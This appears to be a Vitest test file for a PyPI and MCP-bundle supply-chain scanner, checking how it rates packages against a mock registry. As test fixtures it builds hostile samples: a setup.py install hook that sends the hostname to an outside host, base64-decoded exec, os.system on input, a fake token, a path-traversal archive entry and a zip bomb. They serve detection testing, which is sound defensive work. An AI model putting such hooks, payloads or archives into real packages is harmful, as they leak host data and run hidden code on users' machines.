import { createDeflateRaw } from "node:zlib";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import {
  asAttestation,
  publishStatement,
  sha256,
  startPypiRegistry,
} from "#lib/testing/pypi-registry.ts";
import { startSigstore } from "#lib/testing/sigstore-authority.ts";
import { bundleManifest, bundleOf } from "#lib/testing/mcpb-bundles.ts";
import { cleanEntry } from "#lib/testing/trust-facts.ts";
import { feedFolder, osvDocument, zipOf } from "#lib/testing/trust-services.ts";
import { zip } from "../archive/archive-builder.ts";
import type { ControlId } from "../core/controls.ts";
import type { EntryFacts } from "../core/facts.ts";
import { openFeeds } from "../feeds/feed-store.ts";
import { importFeed } from "../feeds/import-feed.ts";
import { findFence } from "../sandbox/fence.ts";
import { scanAlone } from "../scan-alone.ts";
import { scanArtifact } from "../scan-artifact.ts";
import type { ScanArtifact } from "../scanned.ts";

let registry: Awaited<ReturnType<typeof startPypiRegistry>>;
const folder = feedFolder();
const feeds = openFeeds(folder.dir);
beforeAll(async () => {
  registry = await startPypiRegistry();
  registry.put("/github/repos/acme/files", { full_name: "acme/files" });
  await findFence();
  const bad = { ecosystem: "PyPI", name: "weak-dep", events: [{ introduced: "0" }] };
  const severity = [{ type: "CVSS_V3", score: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H" }];
  const documents = [
    osvDocument({ id: "PYSEC-2026-1", ...bad, severity }),
    osvDocument({ id: "MAL-2026-9", ...bad, name: "evil-package" }),
  ];
  const file = folder.write("osv.zip", zipOf(documents));
  await importFeed(feeds, "osv", {
    ...{
      file,
      now: new Date(),
      ecosystems: ["PyPI"],
      onProgress: () => undefined,
      record: () => Promise.resolve(),
    },
  });
}, 120_000);
afterAll(async () => {
  folder.remove();
  await registry.close();
});

const entryOf = (change: Partial<EntryFacts> = {}): EntryFacts => ({
  ...cleanEntry("pypi"),
  registeredDigest: null,
  ...change,
});

async function scan(name: string, entry: EntryFacts | null = entryOf(), change = {}) {
  const tools = { feeds, fingerprintKey: Buffer.alloc(32, 1), capture: false };
  const scanned = await scanArtifact(
    { kind: "pypi", name, version: null },
    { entry, reach: registry.reach(change), tools, others: null },
  );
  return {
    ...scanned,
    of: (id: ControlId) => scanned.results.find(({ control }) => control === id),
    said: (id: ControlId) => {
      const { status, reason } = scanned.results.find(({ control }) => control === id) ?? {};
      return reason ? `${status}: ${reason}` : status;
    },
  };
}

/** Each scan starts a process. */
const SLOW = { timeout: 60_000 };

const CLEAN = {
  metadata: [
    "Summary: Files.",
    "Author-email: Ada <ada@test.example>",
    "License-Expression: MIT",
    "Project-URL: Source, https://github.com/acme/files",
  ].join("\n"),
  readme: "mcp-name: com.acme/files",
};
const SERVER = `from mcp.server.fastmcp import FastMCP
mcp = FastMCP("files")

@mcp.tool()
def add(a: int, b: int) -> int:
    return a + b
`;

describe("a clean package", SLOW, () => {
  test("passes what can be checked, and says why the rest cannot be", async () => {
    registry.publish("clean", "1.0", { ...CLEAN, wheel: { "clean/server.py": SERVER } });
    const { said, artifact, of } = await scan("clean");
    expect(artifact).toMatchObject({ kind: "pypi", name: "clean", version: "1.0" });
    expect(artifact.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    const ids: ControlId[] = ["AI-01", "SC-01", "SC-02", "SC-03", "SC-04", "SC-05"];
    const codes: ControlId[] = ["CQ-01", "CQ-02", "CQ-04", "CQ-05", "PR-01", "PR-02"];
    for (const id of [...ids, ...codes]) expect([id, said(id)]).toEqual([id, "pass"]);
    expect(said("AI-05")).toBe("not_applicable");
    expect(said("CQ-03")).toBe("not_checkable: tool_missing");
    expect(of("CQ-03")?.detail).toContain("Bandit");
    expect(said("CQ-06")).toBe("not_checkable: not_implemented");
    expect(said("AI-04")).toBe("not_checkable: not_implemented");
    // The index lists no attestation, and says so.
    expect(said("AI-03")).toBe("fail");
    expect(said("PR-03")).toBe("fail");
  });

  test("without a server.json leaves the tools and the permissions open", async () => {
    registry.publish("alone", "1.0", { ...CLEAN, wheel: { "alone/server.py": SERVER } });
    const { said } = await scan("alone", null);
    expect(said("CD-01")).toBe("not_checkable: not_captured");
    expect(said("CD-02")).toBe("not_checkable: not_declared");
    expect(said("AI-01")).toBe("pass");
  });
});

describe("attestations and locks", SLOW, () => {
  const COMMIT = "a".repeat(40);
  const REPOSITORY = "https://github.com/acme/files";

  test("who published it is a signature and a commit, and nothing of the build", async () => {
    const sigstore = await startSigstore();
    const root = folder.write("trusted_root.json", sigstore.trustedRoot);
    const { filename, digest } = registry.publish("attested", "1.0", CLEAN);
    const statement = publishStatement(filename, digest.slice(7));
    const bundle = await sigstore.attest(statement, { repository: REPOSITORY, commit: COMMIT });
    const publisher = { kind: "GitHub", repository: "acme/files" };
    registry.put(`/index/integrity/attested/1.0/${filename}/provenance`, {
      attestation_bundles: [{ publisher, attestations: [asAttestation(bundle)] }],
    });
    registry.put(`/github/repos/acme/files/commits/${COMMIT}`, {
      sha: COMMIT,
      commit: { verification: { verified: true } },
    });
    const { said, of } = await scan("attested", entryOf(), { sigstoreTrustRoot: root });
    expect([said("AI-03"), said("PR-03"), said("PR-04")]).toEqual(["pass", "warn", "pass"]);
    expect(of("PR-03")?.findings).toMatchObject([{ code: "PR-03/publish-only" }]);
    const open = await scan("attested");
    for (const id of ["AI-03", "PR-03", "PR-04"] satisfies ControlId[])
      expect([id, open.said(id)]).toEqual([id, "not_checkable: feed_stale"]);
  });

  test("a lock passes SC-03 and SC-04, one with other digests than the index fails", async () => {
    const scanLocked = (name: string, dependency: string, hash: string) => {
      const lock = `[[package]]\nname = "${dependency}"\nversion = "1.0"\nwheels = [{ hash = "sha256:${hash}" }]\n`;
      const metadata = `${CLEAN.metadata}\nRequires-Dist: ${dependency}`;
      registry.publish(name, "1.0", { ...CLEAN, metadata, sdist: { "uv.lock": lock } });
      return scan(name);
    };
    const { files } = registry.publish("locked-dep", "1.0");
    const hash = sha256(files[0]?.bytes ?? Buffer.alloc(0));
    const good = await scanLocked("locked-well", "locked-dep", hash);
    expect([good.said("SC-03"), good.said("SC-04")]).toEqual(["pass", "pass"]);
    const bad = await scanLocked("locked-badly", "locked-dep", "0".repeat(64));
    expect(bad.of("SC-04")).toMatchObject({
      status: "fail",
      findings: [{ code: "SC-04/mismatch" }],
    });
  });
});

test("the command line's way of naming packages and bundles is understood", SLOW, async () => {
  registry.publish("by-hand", "1.0", CLEAN);
  registry.put("/a@1.0.0.mcpb", bundleOf(bundleManifest()));
  const tools = { feeds, fingerprintKey: Buffer.alloc(32, 1), capture: false };
  const scanner: NonNullable<Parameters<typeof scanAlone>[1]["scanner"]> = {
    open: () => registry.reach(),
    scan: (...[reference, options]: Parameters<ScanArtifact>) =>
      scanArtifact(reference, { ...options, tools }),
  };
  const reportOf = async (text: string) =>
    (await scanAlone(text, { timeoutMs: 60_000, onStep: () => undefined, scanner })).report;
  const url = `${registry.base}/a@1.0.0.mcpb`;
  expect(await reportOf("pypi:By_Hand@1.0")).toMatchObject({ name: "by-hand", version: "1.0" });
  expect(await reportOf(`mcpb:${url}`)).toMatchObject({ name: url, version: "1.0.0" });
});

describe("what is wrong fails", SLOW, () => {
  test("the name of another server in the README, or none", async () => {
    registry.publish("other", "1.0", { ...CLEAN, readme: "mcp-name: com.acme/other" });
    registry.publish("silent", "1.0", { ...CLEAN, readme: "" });
    expect((await scan("other")).of("AI-01")).toMatchObject({
      status: "fail",
      findings: [{ code: "AI-01/server-name" }],
    });
    expect((await scan("silent")).of("AI-01")).toMatchObject({
      findings: [{ code: "AI-01/server-name-missing" }],
    });
  });

  test("other bytes than the index promises fail RG-07, and nothing else is claimed of them", async () => {
    const { filename } = registry.publish("swapped", "1.0", CLEAN);
    registry.put(`/files/${filename}`, zip([{ name: "evil.py", content: "x" }]));
    const { said } = await scan("swapped");
    expect(said("RG-07")).toBe("fail");
    for (const id of ["CQ-01", "CQ-02", "CQ-05"] satisfies ControlId[])
      expect(said(id)).toBe("not_checkable: opaque_artifact");
  });

  test("a weak dependency fails SC-02, malware of its own name too", async () => {
    registry.publish("weak", "1.0", {
      ...CLEAN,
      metadata: `${CLEAN.metadata}\nRequires-Dist: weak-dep==1.0`,
    });
    registry.publish("weak-dep", "1.0", { info: { requires_dist: [] } });
    registry.publish("evil-package", "1.0", CLEAN);
    const weak = await scan("weak");
    expect(weak.of("SC-02")).toMatchObject({ status: "fail" });
    expect(weak.said("SC-03")).toBe("warn");
    expect((await scan("evil-package")).of("SC-02")).toMatchObject({ status: "fail" });
  });

  test("dependencies that nobody resolves leave SC-01 to SC-05 open", async () => {
    registry.publish("open", "1.0", {
      ...CLEAN,
      metadata: `${CLEAN.metadata}\nRequires-Dist: x>=1`,
    });
    const { said } = await scan("open", entryOf(), { depsDev: null });
    for (const id of ["SC-01", "SC-02", "SC-03", "SC-04", "SC-05"] satisfies ControlId[])
      expect([id, said(id)]).toEqual([id, "not_checkable: tool_missing"]);
  });

  test("malware, unsafe code, a secret, and powers that are not declared", async () => {
    const code = `import os, base64, subprocess
exec(base64.b64decode("aW1wb3J0IG9z"))
os.system(name)
TOKEN = "${["ghp", "1234567890abcdefABCDEF1234567890abcd"].join("_")}"
`;
    registry.publish("bad-code", "1.0", { ...CLEAN, wheel: { "bad_code/server.py": code } });
    const { said, of } = await scan("bad-code");
    expect(of("CQ-02")).toMatchObject({
      status: "fail",
      findings: [{ code: "CQ-02/malware/decoded-code" }],
    });
    expect(said("CQ-05")).toBe("fail");
    expect(said("CQ-01")).not.toBe("pass");
    expect(said("CD-02")).toBe("fail");
    expect(JSON.stringify(of("CQ-01"))).not.toContain("1234567890abcdef");
  });

  test("code in a folder that is called examples, which is installed like any other", async () => {
    const code = "import os\ndef run(name):\n    os.system(name)\n";
    registry.publish("examples-code", "1.0", {
      ...CLEAN,
      wheel: { "examples/core.py": code },
    });
    const { said, of } = await scan("examples-code");
    expect(of("CQ-05")).toMatchObject({
      status: "fail",
      findings: [{ code: "CQ-05/unsafe/shell", file: "examples/core.py" }],
    });
    expect(said("CD-02")).toBe("fail");
    expect(said("CQ-03")).toBe("not_checkable: tool_missing");
  });

  test("an install hook of a source distribution is told", async () => {
    const hook = `import urllib.request, socket\nurllib.request.urlopen("https://x.acme.io/" + socket.gethostname())\n`;
    registry.publish("hooked", "1.0", { ...CLEAN, wheel: null, sdist: { "setup.py": hook } });
    expect((await scan("hooked")).of("CQ-02")).toMatchObject({
      status: "fail",
      findings: [{ code: "CQ-02/malware/install-reports" }, { code: "CQ-02/install-script" }],
    });
  });
});

describe("hostile archives", SLOW, () => {
  const META = {
    name: "hostile-1.0.dist-info/METADATA",
    content: "Metadata-Version: 2.4\nName: hostile\nVersion: 1.0\n",
  };

  /** Publishes these bytes as the wheel, with the digest that they have. */
  function publishBytes(name: string, bytes: Buffer) {
    const told = registry.publish(name, "1.0", { ...CLEAN, info: { requires_dist: [] } });
    registry.put(`/files/${told.filename}`, bytes);
    const [entry] = told.document.urls;
    if (entry) entry["digests"] = {};
    return scan(name);
  }

  test("path traversal fails CQ-02, and nothing is written", async () => {
    const bytes = zip([META, { name: "../../evil.py", content: "x" }]);
    expect((await publishBytes("traversal", bytes)).of("CQ-02")).toMatchObject({
      status: "fail",
      findings: [{ code: "CQ-02/archive/path-traversal" }],
    });
  });

  test("a wheel that is cut off was not read to its end", async () => {
    const bytes = zip([META, { name: "a.py", content: "x = 1\n".repeat(1_000) }]);
    const { said } = await publishBytes("truncated", bytes.subarray(0, bytes.length - 30));
    expect(said("CQ-02")).toMatch(/^not_checkable/);
    // What the index says of the package stands, but the file has no METADATA to go by.
    expect(said("AI-01")).toBe("fail");
  });

  test("a zip bomb is cut at its ratio and fails", async () => {
    const chunks: Buffer[] = [];
    const packer = createDeflateRaw();
    packer.on("data", (chunk: Buffer) => chunks.push(chunk));
    const done = new Promise((resolve) => packer.on("end", resolve));
    for (let at = 0; at < 100; at++)
      if (!packer.write(Buffer.alloc(1_048_576)))
        await new Promise((one) => packer.once("drain", one));
    packer.end();
    await done;
    const packed = Buffer.concat(chunks);
    const size = 100 * 1_048_576;
    const bytes = zip([
      META,
      ...[1, 2, 3].map((at) => ({ name: `${at}.txt`, packed, size, crc: 0 })),
    ]);
    expect((await publishBytes("bomb", bytes)).of("CQ-02")).toMatchObject({
      status: "fail",
      findings: expect.arrayContaining([expect.objectContaining({ code: "CQ-02/archive/ratio" })]),
    });
  });
});
